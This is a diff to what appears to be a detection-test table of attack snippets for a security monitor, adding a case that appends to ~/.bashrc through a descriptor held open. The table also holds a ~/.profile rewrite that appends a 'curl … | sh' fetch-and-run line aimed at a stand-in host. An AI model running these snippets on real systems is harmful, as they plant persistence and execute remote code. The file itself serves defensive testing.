@@ -113,6 +113,13 @@ ATTACKS = {
         "file.authorized-keys-write",
         "critical",
     ),
+    # an existing file appended to through a descriptor that is never closed
+    "startup-file-held-open": (
+        "import os, time; f = open(os.path.expanduser('~/.bashrc'), 'a'); "
+        "f.write(open('/tmp/line').read()); f.flush(); time.sleep(120)",
+        "file.startup-write",
+        "critical",
+    ),
     "profile-rewritten-by-rename": (
         "import os; p = os.path.expanduser('~/.profile'); t = p + '.new'; "
         "open(t, 'w').write(open(p).read() + 'curl -s http://example.invalid/x | sh\\n'); "
